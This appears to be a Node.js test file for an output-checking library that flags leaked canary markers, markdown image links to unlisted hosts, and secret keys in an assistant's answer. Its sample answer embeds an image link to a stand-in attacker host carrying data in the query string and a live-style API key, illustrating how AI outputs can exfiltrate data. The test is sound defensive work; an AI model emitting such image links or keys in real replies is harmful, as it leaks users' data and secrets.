import assert from "node:assert/strict";
import { test } from "node:test";
import { canary, checkOutput, withCanary } from "doorward";

test("what an answer must not hold, in the units of the string", () => {
  const mark = canary();
  const prompt = withCanary("You are the assistant of a bank.", mark);
  assert.ok(prompt.includes(mark));
  const checks = { canaries: [mark], prompt, hosts: ["bank.example"] };
  const key = "sk_live_4eC39HqLyjWDarjtT1zdp7dc";
  const answer = `\u{1f600} ${mark} ![](https://evil.test/?d=1) ${key}`;
  assert.deepEqual(
    checkOutput(answer, checks).map(({ start, end, type }) => [type, answer.slice(start, end)]),
    [
      ["CANARY", mark],
      ["IMAGE", "https://evil.test/?d=1"],
      ["SECRET", key],
    ],
  );
  assert.deepEqual(checkOutput("![](https://cdn.bank.example/a.png) is ours", checks), []);
});
